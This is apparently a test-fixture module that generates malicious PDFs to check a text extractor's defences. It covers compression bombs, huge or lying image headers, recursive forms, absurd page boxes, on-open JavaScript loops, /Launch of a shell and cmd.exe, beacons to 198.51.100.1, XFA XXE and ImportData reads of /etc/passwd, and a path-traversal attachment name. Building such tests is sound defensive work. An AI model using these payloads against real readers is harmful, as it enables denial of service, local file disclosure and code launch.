"""PDFs whose pages are bombs, or hold what is no text: pictures, forms, fonts, boxes, annotations, programs."""

import zlib
from io import BytesIO

import pymupdf
from PIL import Image

from .pdf_structure import BROKEN, HOLDS
from .raw_pdf import FONT, WORDS, many_pages, one_page, parts, said, stream, written, zeros
from .values import READ, Hostile

GIGABYTE = 1 << 30
SOME = (READ, "over_limits")


def _bomb(length: int, fill: bytes = b" ", rounds: int = 1) -> bytes:
    data = zeros(length, fill=fill, rounds=rounds)
    filters = b"/FlateDecode " * rounds
    return one_page(more={4: stream(data, b"/Filter [%s]" % filters)})


def _other_bomb(name: bytes, unit: bytes, times: int) -> bytes:
    return one_page(more={4: stream(zlib.compress(unit * times, 9), b"/Filter [/FlateDecode %s]" % name)})


def _operators(unit: bytes, times: int) -> bytes:
    return one_page(more={4: stream(said(WORDS) + unit * times, packed=True)})


def _much_text(times: int) -> bytes:
    line = b"".join(said("aviation weather " * 5, 72, 700 - at, 1) for at in range(0, 600, 3))
    return one_page(more={4: stream(line * times, packed=True)})


def _scattered(words: int) -> bytes:
    """Words everywhere on a page, none of them beside another."""
    shown = [
        b"1 0 0 1 %d %d Tm (word%d) Tj" % (at * 7919 % 560, at * 104729 % 780, at) for at in range(words)
    ]
    return one_page(more={4: stream(b"BT /F1 2 Tf " + b"\n".join(shown) + b" ET", packed=True)})


def _one_spot(words: int) -> bytes:
    return one_page(more={4: stream(said("over and over", 72, 700) * words, packed=True)})


def _rules(count: int) -> bytes:
    drawn = b"".join(b"%d %d m %d %d l S\n" % (at % 600, 10, at % 600, 780) for at in range(count))
    cells = b"".join(said("cell", x, y, 5) for y in range(100, 700, 9) for x in range(50, 560, 60))
    return one_page(more={4: stream(cells + drawn, packed=True)})


def _picture(width: int, height: int, data: bytes, entries: bytes) -> bytes:
    shape = b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, entries)
    content = (
        said(WORDS)
        + said("Figure 1-1. Layers of airspace over the field.", 72, 80)
        + b"q 400 0 0 400 72 120 cm /I Do Q"
    )
    return one_page(content, resources=b"/XObject << /I 6 0 R >>", more={6: stream(data, shape)})


_RGB = b"/ColorSpace /DeviceRGB /BitsPerComponent 8 "
_GREY = b"/ColorSpace /DeviceGray /BitsPerComponent 8 "
_BITS = b"/ColorSpace /DeviceGray /BitsPerComponent 1 "


def _packed_picture(side: int) -> bytes:
    return _picture(side, side, zeros(3 * side * side, fill=b"\x5a"), _RGB + b"/Filter /FlateDecode")


def _jpeg_of(width: int, height: int) -> bytes:
    """A small JPEG whose head says that it is large."""
    out = BytesIO()
    Image.effect_noise((640, 640), 50).save(out, "JPEG")
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return _picture(width, height, bytes(data), _GREY + b"/Filter /DCTDecode")


def _jpx(side: int) -> bytes:
    """A JPEG 2000 head that promises a picture of `side` squared, and a little noise behind it."""
    word = side.to_bytes(4, "big")
    size = (
        b"\xff\x51\x00\x29\x00\x00"
        + word
        + word
        + bytes(8)
        + word
        + word
        + bytes(8)
        + b"\x00\x01\x07\x01\x01"
    )
    style = b"\xff\x52\x00\x0c\x00\x00\x00\x01\x00\x05\x04\x04\x00\x00"
    steps = b"\xff\x5c\x00\x13\x40" + b"\x40" * 16
    tile = b"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x01\xff\x93" + b"\x5a" * 6000 + b"\xff\xd9"
    return _picture(side, side, b"\xff\x4f" + size + style + steps + tile, _GREY + b"/Filter /JPXDecode")


def _jbig2(side: int) -> bytes:
    word = side.to_bytes(4, "big")
    head = b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + word + word + bytes(8) + b"\x00\x00\x00"
    region = (
        b"\x00\x00\x00\x01\x26\x00\x01\x00\x00\x20\x00"
        + word
        + word
        + bytes(8)
        + b"\x00\x08"
        + b"\x5a" * 8200
    )
    return _picture(side, side, head + region, _BITS + b"/Filter /JBIG2Decode")


def _fax(side: int) -> bytes:
    told = b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d /Rows %d >>" % (side, side)
    return _picture(side, side, b"\x26\xa0" * 4000, _BITS + told)


def _many_pictures(count: int) -> bytes:
    shown = b"".join(b"q 3 0 0 3 %d %d cm /I Do Q\n" % (at % 600, at // 600 * 4) for at in range(count))
    dot = stream(b"\x00\xff\x00", _RGB + b"/Type /XObject /Subtype /Image /Width 1 /Height 1")
    more = {4: stream(said(WORDS) + shown, packed=True), 6: dot}
    return one_page(resources=b"/XObject << /I 6 0 R >>", more=more)


def _inline_picture() -> bytes:
    told = b"BI /W 50000 /H 50000 /BPC 8 /CS /RGB ID " + b"\x5a" * 5000 + b" EI "
    return one_page(said(WORDS) + told + said("After the picture.", 72, 600))


def _form(content: bytes, resources: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s /Font << /F1 5 0 R >> >>"
    return stream(content, head % resources)


def _form_of_itself() -> bytes:
    own = b"/XObject << /X 6 0 R >>"
    return one_page(said(WORDS) + b"/X Do", resources=own, more={6: _form(b"/X Do /X Do", own)})


def _forms_laughing(levels: int) -> bytes:
    """Ten calls of a form that calls another ten times, and so on."""
    more = {6 + at: _form(b"/X Do " * 10, b"/XObject << /X %d 0 R >>" % (7 + at)) for at in range(levels)}
    more[6 + levels] = _form(said("ha", 80, 80), b"")
    return one_page(said(WORDS) + b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=more)


def _glyphs_of_themselves() -> bytes:
    glyph = stream(b"500 0 0 0 500 500 d1 BT /F1 1 Tf (a) Tj ET 0 0 500 500 re f")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 500 500] /FontMatrix [.001 0 0 .001 0 0] /CharProcs"
        b" << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [500]"
        b" /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return one_page(said("aaaaaa"), more={5: font, 6: glyph})


def _tiles() -> bytes:
    """A pattern of a tile so small that a page takes billions of them, by a caption that asks for it to be drawn."""
    tile = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .02 .02] /XStep .001 /YStep .001"
        b" /Resources << >>"
    )
    drawn = b"/Pattern cs /P scn 72 120 400 400 re f\n" + b"0 0 m 300 300 l S\n" * 30
    content = said(WORDS) + drawn + said("Figure 1-1. A pattern of tiles over the field.", 72, 100)
    return one_page(
        content, resources=b"/Pattern << /P 6 0 R >>", more={6: stream(b"0 0 .01 .01 re f", tile)}
    )


def _dashes() -> bytes:
    lines = b"".join(b"%d 120 m %d 520 l S\n" % (at, at) for at in range(72, 500, 2))
    content = said(WORDS) + b"[.0001 .0001] 0 d .01 w\n" + lines
    return one_page(content + said("Figure 1-1. Dashed lines over the field.", 72, 100))


def _cmap(ranges: bytes) -> bytes:
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n"
    )
    font = FONT.replace(b"/Helvetica", b"/Helvetica /ToUnicode 6 0 R")
    return one_page(more={5: font, 6: stream(cmap + ranges + b"\nendcmap end", packed=True)})


def _font_file() -> bytes:
    told = b"/Type /FontDescriptor /FontName /Bad /Flags 32 /FontBBox [0 0 1 1] /FontFile2 7 0 R"
    font = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FirstChar 32 /LastChar 33 /Widths [1 1]"
        b" /Encoding /WinAnsiEncoding /FontDescriptor 6 0 R >>"
    )
    return one_page(more={5: font, 6: b"<< %s >>" % told, 7: stream(b"\x00\x01\x00\x00" + b"\xff" * 5000)})


def _boxed(box: bytes, content: bytes = said(WORDS), **page: bytes) -> bytes:
    return one_page(content, box=box, **page)  # type: ignore[arg-type]


def _scripted() -> bytes:
    script = b"<< /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\)}) >>"
    return one_page(
        catalog=b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(a) %s] >> >>"
        % ((script,) * 3)
    )


def _launching() -> bytes:
    acts = (
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /URI /URI (http://198.51.100.1/pixel) >>",
        b"<< /S /GoToR /F (\\\\\\\\198.51.100.1\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (http://198.51.100.1/) >> >>",
        b"<< /S /ImportData /F (/etc/passwd) >>",
    )
    places = b" ".join(b"<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A %s >>" % act for act in acts)
    return one_page(page=b"/Annots [%s]" % places, catalog=b"/OpenAction %s" % acts[0])


def _attached() -> bytes:
    with pymupdf.open() as document:
        document.new_page().insert_text((72, 90), WORDS)
        document.embfile_add("setup.exe", b"MZ" + bytes(2000), filename="../../setup.exe")
        document.embfile_add("bomb.zip", b"PK\x03\x04" + bytes(2000))
        document.embfile_add("inner.pdf", one_page(said("Words of an attached file.")))
        data: bytes = document.tobytes()
    return data


def _annotated(count: int) -> bytes:
    one = b"<< /Type /Annot /Subtype /Text /Rect [%d %d %d %d] /Contents (note) /Parent 6 0 R >>"
    notes = b" ".join(one % (at % 500, at % 700, at % 500 + 9, at % 700 + 9) for at in range(count))
    return one_page(page=b"/Annots [%s]" % notes)


def _filled_form() -> bytes:
    field = b"<< /FT /Tx /T (a) /Kids [6 0 R] /Parent 6 0 R /V (a value) >>"
    xfa = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xdp>&e;</xdp>"
    return one_page(catalog=b"/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>", more={6: field, 7: stream(xfa)})


def _external_content() -> bytes:
    """A page whose words are said to stand in another file."""
    return written(
        parts(more={4: b"<< /Length 0 /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream"})
    )


CONTENT: tuple[Hostile, ...] = (
    Hostile(
        name="bomb_of_a_gigabyte.pdf",
        make=lambda: _bomb(GIGABYTE),
        becomes=("over_limits", "no_text", "broken"),
        quick=False,
    ),
    Hostile(
        name="bomb_packed_thrice.pdf",
        make=lambda: _bomb(4 * GIGABYTE, rounds=3),
        becomes=("over_limits", "no_text", "broken"),
        quick=False,
    ),
    Hostile(
        name="bomb_of_operators.pdf",
        make=lambda: _bomb(GIGABYTE, b"q "),
        becomes=("over_limits", "no_text", "broken"),
        quick=False,
    ),
    Hostile(
        name="bomb_lzw.pdf",
        make=lambda: _other_bomb(b"/LZWDecode", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", 2_000_000),
        becomes=("over_limits", "no_text", "broken"),
        quick=False,
    ),
    Hostile(
        name="bomb_run_lengths.pdf",
        make=lambda: _other_bomb(b"/RunLengthDecode", b"\x81 ", 4_000_000),
        becomes=("over_limits", "no_text", "broken"),
        quick=False,
    ),
    Hostile(name="million_of_saves.pdf", make=lambda: _operators(b"q ", 1_000_000), becomes=(READ, *BROKEN)),
    Hostile(
        name="million_of_paths.pdf",
        make=lambda: _operators(b"0 0 m 9 9 l S ", 1_000_000),
        becomes=SOME,
        quick=False,
    ),
    Hostile(name="text_over_text.pdf", make=lambda: _much_text(100), becomes=("over_limits",), quick=False),
    Hostile(name="words_everywhere.pdf", make=lambda: _scattered(60_000), becomes=SOME, quick=False),
    Hostile(name="words_on_one_spot.pdf", make=lambda: _one_spot(60_000), becomes=SOME, quick=False),
    Hostile(
        name="hundred_pages_of_words.pdf",
        make=lambda: many_pages(
            [b"".join(said("a b c d e f", x, y, 3) for y in range(0, 790, 4) for x in range(0, 600, 30))]
            * 100
        ),
        becomes=SOME,
        quick=False,
    ),
    Hostile(name="rules_without_end.pdf", make=lambda: _rules(200_000), becomes=SOME, quick=False),
    Hostile(
        name="pixels_flate.pdf",
        make=lambda: _packed_picture(30_000),
        becomes=(READ,),
        holds=HOLDS,
        quick=False,
    ),
    Hostile(
        name="pixels_flate_within.pdf",
        make=lambda: _packed_picture(7_700),
        becomes=(READ,),
        holds=HOLDS,
        quick=False,
    ),
    Hostile(name="pixels_jpeg.pdf", make=lambda: _jpeg_of(65_500, 65_500), becomes=(READ,), holds=HOLDS),
    Hostile(name="pixels_jpx.pdf", make=lambda: _jpx(60_000), becomes=(READ,), holds=HOLDS),
    Hostile(
        name="pixels_jpx_within.pdf", make=lambda: _jpx(7_700), becomes=(READ,), holds=HOLDS, quick=False
    ),
    Hostile(name="pixels_jbig2.pdf", make=lambda: _jbig2(100_000), becomes=(READ,), holds=HOLDS),
    Hostile(name="pixels_fax.pdf", make=lambda: _fax(60_000), becomes=(READ,), holds=HOLDS),
    Hostile(
        name="pixels_negative.pdf",
        make=lambda: _picture(-5, 2147483647, b"", _RGB),
        becomes=(READ,),
        holds=HOLDS,
    ),
    Hostile(name="pixels_inline.pdf", make=_inline_picture, becomes=(READ,), holds=HOLDS),
    Hostile(
        name="twenty_thousand_pictures.pdf", make=lambda: _many_pictures(20_000), becomes=SOME, quick=False
    ),
    Hostile(name="form_of_itself.pdf", make=_form_of_itself, becomes=(READ,), holds=HOLDS),
    Hostile(
        name="forms_laughing.pdf", make=lambda: _forms_laughing(9), becomes=("over_limits",), quick=False
    ),
    Hostile(name="glyphs_of_themselves.pdf", make=_glyphs_of_themselves, becomes=(READ, "no_text")),
    Hostile(name="tiles_without_end.pdf", make=_tiles, becomes=(READ,), holds=HOLDS, quick=False),
    Hostile(name="dashes_without_end.pdf", make=_dashes, becomes=(READ,), holds=HOLDS, quick=False),
    Hostile(
        name="cmap_of_all.pdf",
        make=lambda: _cmap(b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"),
        becomes=(READ, "no_text"),
    ),
    Hostile(
        name="cmap_of_noise.pdf",
        make=lambda: _cmap(b"beginbfchar <zz> <> << [[[" * 2000),
        becomes=(READ,),
        holds=HOLDS,
    ),
    Hostile(
        name="cmap_of_steering.pdf",
        make=lambda: _cmap(b"1 beginbfrange <20> <7e> <202e> endbfrange"),
        becomes=(READ, "no_text"),
    ),
    Hostile(
        name="cmap_long_words.pdf",
        make=lambda: _cmap(b"1 beginbfrange <20> <7e> <%s> endbfrange" % (b"0041" * 500)),
        becomes=(READ, "no_text", "over_limits"),
    ),
    Hostile(name="font_file_broken.pdf", make=_font_file, becomes=(READ, "no_text")),
    Hostile(name="box_huge.pdf", make=lambda: _boxed(b"[0 0 14400 14400]"), becomes=(READ,), holds=HOLDS),
    Hostile(
        name="box_absurd.pdf",
        make=lambda: _boxed(b"[0 0 2000000000 2000000000]"),
        becomes=(READ, "no_text"),
        holds=(),
    ),
    Hostile(name="box_negative.pdf", make=lambda: _boxed(b"[612 792 0 0]"), becomes=(READ,), holds=HOLDS),
    Hostile(
        name="box_nan.pdf", make=lambda: _boxed(b"[nan nan nan nan]"), becomes=(READ, "no_text", *BROKEN)
    ),
    Hostile(
        name="box_infinite.pdf",
        make=lambda: _boxed(b"[-1e39 -1e39 1e39 1e39]"),
        becomes=(READ, "no_text", *BROKEN),
    ),
    Hostile(name="box_empty.pdf", make=lambda: _boxed(b"[0 0 0 0]"), becomes=(READ, "no_text", *BROKEN)),
    Hostile(
        name="box_drawing.pdf",
        make=lambda: _boxed(
            b"[0 0 2000000 2000000]",
            said(WORDS) + b"0 0 m 90 900 l S " * 40 + said("Figure 1-1. A drawing of the field.", 72, 60),
        ),
        becomes=(READ,),
        holds=HOLDS,
    ),
    Hostile(
        name="unit_huge.pdf",
        make=lambda: one_page(page=b"/UserUnit 1000000"),
        becomes=(READ, "no_text", *BROKEN),
    ),
    Hostile(name="turned_oddly.pdf", make=lambda: one_page(page=b"/Rotate 37"), becomes=(READ,), holds=HOLDS),
    Hostile(name="scripted.pdf", make=_scripted, becomes=(READ,), holds=HOLDS, lacks=("alert",)),
    Hostile(name="launching.pdf", make=_launching, becomes=(READ,), holds=HOLDS, lacks=("198.51", "root:")),
    Hostile(name="attached.pdf", make=_attached, becomes=(READ,), holds=HOLDS, lacks=("attached file",)),
    Hostile(name="annotated.pdf", make=lambda: _annotated(20_000), becomes=SOME, quick=False),
    Hostile(name="filled_form.pdf", make=_filled_form, becomes=(READ,), holds=HOLDS, lacks=("root:",)),
    Hostile(name="external_content.pdf", make=_external_content, becomes=("no_text", *BROKEN)),
)
